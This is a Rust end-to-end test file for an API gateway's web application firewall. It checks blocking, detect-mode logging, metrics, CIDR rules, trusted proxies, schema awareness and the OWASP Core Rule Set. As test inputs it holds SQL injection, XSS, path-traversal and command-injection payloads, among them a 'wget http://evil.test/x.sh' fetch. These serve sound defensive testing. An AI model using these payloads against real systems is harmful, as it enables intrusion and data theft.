//! `waf` end to end (`spec/api.md` Policies `waf`; `spec/runtime.md`
//! `gatehouse_waf_matches_total{route,rule,action}`, `--trusted-proxies`): the built
//! `gatehouse run` over routes with WAF policies, in front of the echo upstream.
//!
//! - each native family on each inspected part (path, query, headers, cookies, JSON,
//!   form and text bodies), decoded the way attackers encode; benign text passes
//! - `Block` (403 problem+json naming no rule) and `Detect` (passes; logs the family,
//!   the field, a truncated value and the action; counts the metric)
//! - `inspect` limits the parts; `maxInspectBytes` the bytes
//! - `allowCidrs` / `denyCidrs`, and the client address behind `--trusted-proxies`
//! - schema awareness: a field the request schema types is not inspected once the
//!   schema accepts the body
//! - the OWASP Core Rule Set through libmodsecurity at paranoia 1 and 2, an exclusion,
//!   a rule set that fails to load (the running table keeps serving) and a missing one
//!
//! The CRS tests need libmodsecurity3 and modsecurity-crs: without them they skip,
//! unless `GATEHOUSE_REQUIRE_MODSECURITY` is set (CI), where they fail.

mod common;

use std::sync::{Arc, Mutex, Weak};

use common::{
    LoggedGateway, RawResponse, assert_problem, echoed, eventually, request, send_raw,
    upstream_runtime,
};

/// The routes: one rule per behaviour, all in front of the echo upstream.
const MANIFESTS: &str = r#"
apiVersion: gatehouse.dev/v1alpha1
kind: Upstream
metadata: {name: echo}
spec:
  endpoints: [{host: 127.0.0.1, port: @ECHO@}]
---
apiVersion: gatehouse.dev/v1alpha1
kind: ApiRoute
metadata: {name: waf}
spec:
  hosts: [waf.test]
  rules:
    - name: block
      matches: [{path: {type: Prefix, value: /block}}]
      backends: [{upstream: echo}]
      policies: {waf: {}}
    - name: detect
      matches: [{path: {type: Prefix, value: /detect}}]
      backends: [{upstream: echo}]
      policies: {waf: {mode: Detect}}
    - name: query-only
      matches: [{path: {type: Prefix, value: /query-only}}]
      backends: [{upstream: echo}]
      policies: {waf: {inspect: [Query]}}
    - name: sqli-only
      matches: [{path: {type: Prefix, value: /sqli-only}}]
      backends: [{upstream: echo}]
      policies: {waf: {rules: [SqlInjection]}}
    - name: short
      matches: [{path: {type: Prefix, value: /short}}]
      backends: [{upstream: echo}]
      policies: {waf: {maxInspectBytes: 64}}
    - name: deny
      matches: [{path: {type: Prefix, value: /deny}}]
      backends: [{upstream: echo}]
      policies: {waf: {rules: [], denyCidrs: [127.0.0.0/8]}}
    - name: allow-other
      matches: [{path: {type: Prefix, value: /allow-other}}]
      backends: [{upstream: echo}]
      policies: {waf: {rules: [], allowCidrs: [10.0.0.0/8, 192.0.2.1]}}
    - name: allow-local
      matches: [{path: {type: Prefix, value: /allow-local}}]
      backends: [{upstream: echo}]
      policies: {waf: {rules: [], allowCidrs: [127.0.0.1/32]}}
    - name: deny-detect
      matches: [{path: {type: Prefix, value: /deny-detect}}]
      backends: [{upstream: echo}]
      policies: {waf: {mode: Detect, rules: [], denyCidrs: [127.0.0.1]}}
    - name: typed
      matches: [{path: {type: Prefix, value: /typed}}]
      backends: [{upstream: echo}]
      policies:
        waf: {}
        validation:
          request:
            schema:
              type: object
              required: [id, sort]
              properties:
                id: {type: string, format: uuid}
                sort: {enum: ["name", "price' or ''='"]}
                note: {type: string}
    - name: untyped
      matches: [{path: {type: Prefix, value: /untyped}}]
      backends: [{upstream: echo}]
      policies: {waf: {}}
"#;

/// The gateway over `files` (the echo upstream's port put for `@ECHO@`), with `flags`,
/// its log kept in a file.
fn start(files: &[(&str, String)], flags: &[&str]) -> LoggedGateway {
    let servers = upstream_runtime();
    let echo = common::spawn_echo(&servers);
    let files: Vec<(&str, String)> = files
        .iter()
        .map(|(name, text)| (*name, text.replace("@ECHO@", &echo.port().to_string())))
        .collect();
    LoggedGateway::serve_with(servers, &files, flags)
}

/// `GET target` with `Host: waf.test`.
fn get(gw: &LoggedGateway, target: &str, headers: &[(&str, &str)]) -> RawResponse {
    gw.get("waf.test", target, headers)
}

/// A request with a body, to `Host: waf.test`.
fn send(
    gw: &LoggedGateway,
    method: &str,
    target: &str,
    content_type: &str,
    body: &str,
) -> RawResponse {
    let raw = format!(
        "{method} {target} HTTP/1.1\r\nHost: waf.test\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    send_raw(gw.http, raw.as_bytes())
}

/// The log line of the request a response answered (its `X-Request-Id`), once the
/// gateway has written it.
fn logged_line(gw: &LoggedGateway, r: &RawResponse) -> String {
    let rid = r.header("x-request-id").unwrap_or_default().to_string();
    assert!(
        eventually(|| gw.log().lines().any(|l| l.contains(&rid))),
        "no log line for {rid}: {}",
        gw.log()
    );
    gw.log()
        .lines()
        .find(|l| l.contains(&rid))
        .unwrap_or_default()
        .to_string()
}

/// The metrics text.
fn metrics_of(gw: &LoggedGateway) -> String {
    gw.admin_text("/metrics")
}

/// The gateway over [`MANIFESTS`], shared by the tests running at the same time.
fn gateway() -> Arc<LoggedGateway> {
    static SLOT: Mutex<Weak<LoggedGateway>> = Mutex::new(Weak::new());
    common::shared(&SLOT, || start(&[("waf.yaml", MANIFESTS.to_string())], &[]))
}

/// A 403 from the WAF: problem+json that names no rule.
fn assert_blocked(r: &RawResponse) {
    let problem = assert_problem(r, 403);
    let text = format!(
        "{} {} {}",
        problem["type"], problem["title"], problem["detail"]
    );
    for internal in ["Sql", "Script", "Traversal", "942", "libinjection", "rule"] {
        assert!(!text.contains(internal), "the 403 names {internal}: {text}");
    }
}

fn assert_passed(r: &RawResponse) {
    assert_eq!(r.status, 200, "{r:?} {}", r.text());
    echoed(r);
}

// === native rules, part by part ===

#[test]
fn each_native_family_blocks_on_each_part() {
    let gw = gateway();
    // Query values, encoded as attackers encode them.
    for target in [
        "/block/search?q=1%27%20OR%20%271%27%3D%271",
        "/block/search?q=1%2527%2520OR%2520%25271%2527%253D%25271",
        "/block/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "/block/search?q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B",
        "/block/search?q=%5Cu003cscript%5Cu003ealert(1)",
        "/block/files?name=..%2F..%2F..%2Fetc%2Fpasswd",
        "/block/files?name=%252e%252e%252f%252e%252e%252fetc",
        "/block/ping?host=127.0.0.1%3B%20cat%20%2Fetc%2Fhostname",
        "/block/ping?host=x%7Cid",
        "/block/ping?host=%24(whoami)",
        "/block/search?q=a%00b",
        "/block/search?q=100%zz",
        "/block/search?q=%c0%ae%c0%ae%c0%af",
    ] {
        assert_blocked(&get(&gw, target, &[]));
    }
    // A query parameter's name is inspected too.
    assert_blocked(&get(&gw, "/block/search?%3Cscript%3E=1", &[]));
    // The path: a segment, and a traversal out of it.
    assert_blocked(&get(
        &gw,
        "/block/items/1%27%20UNION%20SELECT%20password%20FROM%20users--",
        &[],
    ));
    assert_blocked(&get(&gw, "/block/static/%2e%2e/etc/passwd", &[]));
    // Headers, a cookie, the scanners' signatures.
    assert_blocked(&get(
        &gw,
        "/block/a",
        &[("X-Note", "<script>alert(1)</script>")],
    ));
    assert_blocked(&get(
        &gw,
        "/block/a",
        &[("Referer", "https://x.test/?id=1' or '1'='1")],
    ));
    assert_blocked(&get(
        &gw,
        "/block/a",
        &[("Cookie", "session=abc; pref=%27%20OR%201%3D1--")],
    ));
    assert_blocked(&get(
        &gw,
        "/block/a",
        &[("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")],
    ));
    assert_blocked(&get(&gw, "/block/a", &[("Acunetix-Product", "WVS/12")]));
    // Protocol: methods no API takes, a body on GET.
    assert_blocked(&request(gw.http, "TRACE", "waf.test", "/block/a", &[]));
    assert_blocked(&send(&gw, "GET", "/block/a", "text/plain", "hello"));
    // Bodies: JSON leaves and keys, form fields, text.
    assert_blocked(&send(
        &gw,
        "POST",
        "/block/comments",
        "application/json",
        r#"{"post": 7, "comment": {"text": "nice", "tags": ["<img src=x onerror=alert(1)>"]}}"#,
    ));
    assert_blocked(&send(
        &gw,
        "POST",
        "/block/comments",
        "application/json",
        r#"{"<svg onload=alert(1)>": 1}"#,
    ));
    // A repeated key: the value a parser keeping the last one would drop is seen too.
    assert_blocked(&send(
        &gw,
        "POST",
        "/block/comments",
        "application/json",
        r#"{"comment": "<script>alert(1)</script>", "comment": "fine"}"#,
    ));
    assert_blocked(&send(
        &gw,
        "POST",
        "/block/login",
        "application/x-www-form-urlencoded",
        "user=admin%27--&password=x",
    ));
    assert_blocked(&send(
        &gw,
        "POST",
        "/block/notes",
        "text/plain",
        "; wget http://evil.test/x.sh",
    ));
}

#[test]
fn benign_requests_pass() {
    let gw = gateway();
    for target in [
        "/block/search?q=select+a+blue+shirt",
        "/block/search?q=O%27Reilly+books",
        "/block/search?q=rock+%26+roll&page=2",
        "/block/search?q=50%25+off",
        "/block/users/42?fields=name,email",
        "/block/redirect?next=https%3A%2F%2Fshop.example.com%2Fcart%3Fa%3D1",
    ] {
        assert_passed(&get(&gw, target, &[]));
    }
    assert_passed(&get(
        &gw,
        "/block/a",
        &[
            (
                "User-Agent",
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
            ),
            ("Cookie", "session=3f2a9c1e; theme=dark"),
            ("Referer", "https://shop.example.com/search?q=shirt"),
        ],
    ));
    let r = send(
        &gw,
        "POST",
        "/block/reviews",
        "application/json",
        r#"{"author": "Conan O'Brien", "rating": 5, "text": "I'd select a blue shirt again. Run `ls -la` if you're curious; 3 < 4 > 2.\n\n## Verdict\n- **great** fit\n- see [notes](../notes.md)"}"#,
    );
    assert_passed(&r);
    // The upstream gets the body the WAF read, untouched.
    assert!(echoed(&r).body.contains("Conan O'Brien"), "{}", r.text());
    assert_passed(&send(
        &gw,
        "POST",
        "/block/login",
        "application/x-www-form-urlencoded",
        "user=d%27angelo&remember=on",
    ));
}

#[test]
fn inspect_and_rules_limit_what_is_looked_at() {
    let gw = gateway();
    // `inspect: [Query]`: headers and bodies are not looked at.
    assert_blocked(&get(
        &gw,
        "/query-only/a?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        &[],
    ));
    assert_passed(&get(
        &gw,
        "/query-only/a",
        &[("X-Note", "<script>alert(1)</script>")],
    ));
    assert_passed(&send(
        &gw,
        "POST",
        "/query-only/a",
        "text/plain",
        "<script>alert(1)</script>",
    ));
    // `rules: [SqlInjection]`: only that family.
    assert_blocked(&get(&gw, "/sqli-only/a?q=1%27%20OR%20%271%27%3D%271", &[]));
    assert_passed(&get(
        &gw,
        "/sqli-only/a?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        &[],
    ));
    // `maxInspectBytes: 64`: what comes after is not looked at.
    let padding = "a".repeat(100);
    assert_passed(&send(
        &gw,
        "POST",
        "/short/a",
        "text/plain",
        &format!("{padding} <script>alert(1)</script>"),
    ));
    assert_blocked(&send(
        &gw,
        "POST",
        "/short/a",
        "text/plain",
        "<script>alert(1)</script>",
    ));
}

#[test]
fn detect_passes_logs_and_counts() {
    let gw = gateway();
    let r = get(
        &gw,
        "/detect/search?q=1%27%20OR%20%271%27%3D%271&secret=x",
        &[],
    );
    assert_passed(&r);
    let line = logged_line(&gw, &r);
    let r = get(
        &gw,
        "/detect/a",
        &[("User-Agent", "Mozilla/5.0 (Nikto/2.1.6)")],
    );
    assert_passed(&r);
    for expected in [
        "waf match",
        "\"waf_rule\":\"SqlInjection\"",
        "\"field\":\"query:q\"",
        "\"action\":\"detect\"",
        "\"route\":\"default/waf\"",
        "\"rule\":\"detect\"",
        "(12 bytes)",
    ] {
        assert!(line.contains(expected), "{expected} missing from {line}");
    }
    let metrics = metrics_of(&gw);
    for expected in [
        "gatehouse_waf_matches_total{route=\"default/waf\",rule=\"SqlInjection\",action=\"detect\"}",
        "gatehouse_waf_matches_total{route=\"default/waf\",rule=\"ScannerDetection\",action=\"detect\"}",
    ] {
        assert!(metrics.contains(expected), "{expected} missing:\n{metrics}");
    }
    // Blocks are counted as such.
    assert_blocked(&get(
        &gw,
        "/block/a?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        &[],
    ));
    let metrics = metrics_of(&gw);
    assert!(
        metrics.contains(
            "gatehouse_waf_matches_total{route=\"default/waf\",rule=\"CrossSiteScripting\",action=\"block\"}"
        ),
        "{metrics}"
    );
}

#[test]
fn a_long_matched_value_is_logged_truncated() {
    let gw = gateway();
    let long = format!("%3Cscript%3Ealert(1)%3C%2Fscript%3E{}", "x".repeat(200));
    let r = get(&gw, &format!("/detect/a?q={long}"), &[]);
    assert_passed(&r);
    let line = logged_line(&gw, &r);
    assert!(line.contains("(225 bytes)"), "{line}");
    assert!(!line.contains(&"x".repeat(100)), "not truncated: {line}");
}

// === client addresses ===

#[test]
fn cidr_rules_refuse_by_client_address() {
    let gw = gateway();
    assert_blocked(&get(&gw, "/deny/a", &[]));
    assert_blocked(&get(&gw, "/allow-other/a", &[]));
    assert_passed(&get(&gw, "/allow-local/a", &[]));
    // The CIDR rules are enforced whatever the mode.
    assert_blocked(&get(&gw, "/deny-detect/a", &[]));
    // Without --trusted-proxies, X-Forwarded-For names no one.
    assert_passed(&get(
        &gw,
        "/allow-local/a",
        &[("X-Forwarded-For", "10.1.2.3")],
    ));
    assert_blocked(&get(
        &gw,
        "/allow-other/a",
        &[("X-Forwarded-For", "10.1.2.3")],
    ));
    let metrics = metrics_of(&gw);
    assert!(
        metrics.contains(
            "gatehouse_waf_matches_total{route=\"default/waf\",rule=\"DenyCidrs\",action=\"block\"}"
        ) && metrics.contains(
            "gatehouse_waf_matches_total{route=\"default/waf\",rule=\"AllowCidrs\",action=\"block\"}"
        ),
        "{metrics}"
    );
}

#[test]
fn trusted_proxies_name_the_client() {
    let gw = start(
        &[("waf.yaml", MANIFESTS.to_string())],
        &["--trusted-proxies", "127.0.0.1/32,198.51.100.0/24"],
    );
    // The peer (127.0.0.1) is trusted: the client is the rightmost untrusted hop.
    assert_passed(&get(
        &gw,
        "/allow-other/a",
        &[("X-Forwarded-For", "10.1.2.3")],
    ));
    assert_passed(&get(
        &gw,
        "/allow-other/a",
        &[("X-Forwarded-For", "203.0.113.9, 10.1.2.3, 198.51.100.7")],
    ));
    assert_blocked(&get(
        &gw,
        "/allow-other/a",
        &[("X-Forwarded-For", "10.1.2.3, 203.0.113.9")],
    ));
    assert_passed(&get(&gw, "/deny/a", &[("X-Forwarded-For", "192.0.2.1")]));
    // No header: the peer itself.
    assert_blocked(&get(&gw, "/deny/a", &[]));
}

// === schema awareness ===

#[test]
fn fields_the_schema_types_are_not_inspected_once_it_accepts_the_body() {
    let gw = gateway();
    // An enum value that reads like SQL: the schema allows exactly it.
    let body = r#"{"id": "7d9f3c1e-2b4a-4c8e-9f00-1a2b3c4d5e6f", "sort": "price' or ''='", "note": "thanks"}"#;
    assert_passed(&send(
        &gw,
        "POST",
        "/typed/orders",
        "application/json",
        body,
    ));
    // The same body where nothing types the field.
    assert_blocked(&send(
        &gw,
        "POST",
        "/untyped/orders",
        "application/json",
        body,
    ));
    // Free text is still inspected on the typed rule.
    let body = r#"{"id": "7d9f3c1e-2b4a-4c8e-9f00-1a2b3c4d5e6f", "sort": "name", "note": "<script>alert(1)</script>"}"#;
    assert_blocked(&send(
        &gw,
        "POST",
        "/typed/orders",
        "application/json",
        body,
    ));
    // A body the schema refuses is inspected whole: the attack in `id` is seen.
    let body = r#"{"id": "1' OR '1'='1", "sort": "name"}"#;
    assert_blocked(&send(
        &gw,
        "POST",
        "/typed/orders",
        "application/json",
        body,
    ));
}

// === the OWASP Core Rule Set ===

/// Whether libmodsecurity and the CRS are here; panics when they must be.
fn crs_available() -> bool {
    let lib = [
        "/usr/lib/x86_64-linux-gnu",
        "/usr/lib/aarch64-linux-gnu",
        "/usr/lib",
    ]
    .iter()
    .any(|d| std::path::Path::new(d).join("libmodsecurity.so.3").exists());
    let rules = std::path::Path::new("/usr/share/modsecurity-crs/rules").is_dir();
    if lib && rules {
        return true;
    }
    assert!(
        std::env::var_os("GATEHOUSE_REQUIRE_MODSECURITY").is_none(),
        "libmodsecurity3 and modsecurity-crs are required here"
    );
    eprintln!("skipped: libmodsecurity3 or modsecurity-crs is not installed");
    false
}

const CRS_MANIFESTS: &str = r#"
apiVersion: gatehouse.dev/v1alpha1
kind: Upstream
metadata: {name: echo}
spec:
  endpoints: [{host: 127.0.0.1, port: @ECHO@}]
---
apiVersion: gatehouse.dev/v1alpha1
kind: ApiRoute
metadata: {name: crs}
spec:
  hosts: [waf.test]
  rules:
    - name: pl1
      matches: [{path: {type: Prefix, value: /pl1}}]
      backends: [{upstream: echo}]
      policies: {waf: {rules: [], coreRuleSet: {enabled: true, paranoiaLevel: 1}}}
    - name: pl2
      matches: [{path: {type: Prefix, value: /pl2}}]
      backends: [{upstream: echo}]
      policies: {waf: {rules: [], coreRuleSet: {enabled: true, paranoiaLevel: 2}}}
    - name: pl1-detect
      matches: [{path: {type: Prefix, value: /pl1-detect}}]
      backends: [{upstream: echo}]
      policies: {waf: {mode: Detect, rules: [], coreRuleSet: {enabled: true}}}
    - name: excluded
      matches: [{path: {type: Prefix, value: /excluded}}]
      backends: [{upstream: echo}]
      policies:
        waf:
          rules: []
          coreRuleSet: {enabled: true, exclusions: [{ruleId: 942100, paths: [/excluded/search.json]}]}
"#;

fn crs_gateway() -> Arc<LoggedGateway> {
    static SLOT: Mutex<Weak<LoggedGateway>> = Mutex::new(Weak::new());
    common::shared(&SLOT, || {
        start(&[("crs.yaml", CRS_MANIFESTS.to_string())], &[])
    })
}

#[test]
fn the_core_rule_set_blocks_at_paranoia_1_and_2() {
    if !crs_available() {
        return;
    }
    let gw = crs_gateway();
    for target in [
        "/pl1/search?q=1%27%20OR%20%271%27%3D%271",
        "/pl1/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "/pl1/files?name=..%2F..%2Fetc%2Fpasswd",
    ] {
        assert_blocked(&get(&gw, target, &[]));
    }
    assert_blocked(&send(
        &gw,
        "POST",
        "/pl1/comments",
        "application/json",
        r#"{"comment": "<script>alert(document.cookie)</script>"}"#,
    ));
    assert_passed(&get(&gw, "/pl1/search?q=select+a+blue+shirt", &[]));
    // An API's methods and media types are allowed (the CRS's defaults are a web site's).
    assert_passed(&send(
        &gw,
        "PUT",
        "/pl1/items/7",
        "application/json",
        r#"{"name": "shirt"}"#,
    ));
    assert_passed(&send(
        &gw,
        "PATCH",
        "/pl1/items/7",
        "application/merge-patch+json",
        r#"{"name": "shirt"}"#,
    ));
    assert_passed(&request(gw.http, "DELETE", "waf.test", "/pl1/items/7", &[]));
    assert_passed(&send(
        &gw,
        "POST",
        "/pl1/comments",
        "application/json",
        r#"{"comment": "Great shirt, would buy again"}"#,
    ));
    // Many special characters: only paranoia level 2 counts them (942430).
    let odd = "/search?q=a%27b%27c%27d%27e%27f%27g%27h%27i%27j%27k%27l%27m%27n";
    assert_passed(&get(&gw, &format!("/pl1{odd}"), &[]));
    assert_blocked(&get(&gw, &format!("/pl2{odd}"), &[]));
}

#[test]
fn the_core_rule_set_detects_and_an_exclusion_switches_a_rule_off() {
    if !crs_available() {
        return;
    }
    let gw = crs_gateway();
    let sqli = "?q=1%27%20OR%20%271%27%3D%271";
    // 942100 (libinjection) is the only rule this trips at paranoia 1.
    assert_blocked(&get(&gw, &format!("/excluded/other{sqli}"), &[]));
    assert_passed(&get(&gw, &format!("/excluded/search.json{sqli}"), &[]));
    assert_passed(&get(&gw, &format!("/excluded/search.json/more{sqli}"), &[]));
    // By whole segments, the dot a dot, the path as routed.
    assert_blocked(&get(&gw, &format!("/excluded/search.jsonp{sqli}"), &[]));
    assert_blocked(&get(&gw, &format!("/excluded/searchXjson{sqli}"), &[]));
    assert_blocked(&get(
        &gw,
        &format!("/excluded/search.json/%2e%2e/other{sqli}"),
        &[],
    ));
    let r = get(&gw, &format!("/pl1-detect/search{sqli}"), &[]);
    assert_passed(&r);
    let line = logged_line(&gw, &r);
    for expected in [
        "\"waf_rule\":\"CoreRuleSet\"",
        "942100",
        "\"field\":\"ARGS:q\"",
        "\"action\":\"detect\"",
    ] {
        assert!(line.contains(expected), "{expected} missing from {line}");
    }
    // The matched value itself is not logged.
    assert!(!line.contains("'1'='1"), "{line}");
    assert!(metrics_of(&gw).contains(
        "gatehouse_waf_matches_total{route=\"default/crs\",rule=\"CoreRuleSet\",action=\"detect\"}"
    ));
}

#[test]
fn a_rule_set_that_fails_to_load_refuses_the_table_and_the_last_one_keeps_serving() {
    if !crs_available() {
        return;
    }
    // A copy of the CRS with one broken file.
    let rules = tempfile::tempdir().expect("tempdir");
    for entry in std::fs::read_dir("/usr/share/modsecurity-crs/rules").expect("the CRS") {
        let path = entry.expect("entry").path();
        if let Some(name) = path.file_name() {
            std::fs::copy(&path, rules.path().join(name)).expect("copy");
        }
    }
    std::fs::write(
        rules.path().join("REQUEST-999-BROKEN.conf"),
        "SecRule ARGS \"@rx attack\" \"id:1999999,phase:2,deny\"\nSecNoSuchDirective On\n",
    )
    .expect("write");
    let plain = r#"
apiVersion: gatehouse.dev/v1alpha1
kind: Upstream
metadata: {name: echo}
spec:
  endpoints: [{host: 127.0.0.1, port: @ECHO@}]
---
apiVersion: gatehouse.dev/v1alpha1
kind: ApiRoute
metadata: {name: plain}
spec:
  hosts: [waf.test]
  rules:
    - matches: [{path: {type: Prefix, value: /}}]
      backends: [{upstream: echo}]
"#;
    let crs_dir = rules.path().to_string_lossy().to_string();
    let gw = start(
        &[("plain.yaml", plain.to_string())],
        &["--crs-rules", &crs_dir],
    );
    assert_passed(&get(&gw, "/a", &[]));
    // A route asks for the CRS: the table is refused, the running one keeps serving.
    let with_crs = r#"
apiVersion: gatehouse.dev/v1alpha1
kind: ApiRoute
metadata: {name: crs}
spec:
  hosts: [crs.test]
  rules:
    - matches: [{path: {type: Prefix, value: /}}]
      respond: {status: 200, body: crs}
      policies: {waf: {rules: [], coreRuleSet: {enabled: true}}}
"#;
    std::fs::write(gw.manifests.path().join("crs.yaml"), with_crs).expect("write");
    assert!(
        eventually(|| gw.log().contains("failed to load")),
        "{}",
        gw.log()
    );
    assert!(
        gw.log().contains("REQUEST-999-BROKEN.conf") || gw.log().contains("Line"),
        "{}",
        gw.log()
    );
    assert!(
        metrics_of(&gw).contains("gatehouse_config_applies_total{result=\"rejected\"} 1"),
        "{}",
        metrics_of(&gw)
    );
    assert_passed(&get(&gw, "/a", &[]));
    assert_eq!(request(gw.http, "GET", "crs.test", "/", &[]).status, 404);
}

#[test]
fn a_missing_rule_set_says_what_to_install() {
    let missing = r#"
apiVersion: gatehouse.dev/v1alpha1
kind: ApiRoute
metadata: {name: crs}
spec:
  rules:
    - matches: [{path: {type: Prefix, value: /}}]
      respond: {status: 200, body: crs}
      policies: {waf: {rules: [], coreRuleSet: {enabled: true}}}
"#;
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(dir.path().join("crs.yaml"), missing).expect("write");
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_gatehouse"))
        .args(["run", "-f"])
        .arg(dir.path())
        .args(["--http", "127.0.0.1:0", "--admin", "127.0.0.1:0"])
        .args(["--crs-rules", "/nonexistent/modsecurity-crs/rules"])
        .output()
        .expect("runs");
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        (stderr.contains("modsecurity-crs") && stderr.contains("--crs-rules"))
            || stderr.contains("install the libmodsecurity3 package"),
        "{stderr}"
    );
}
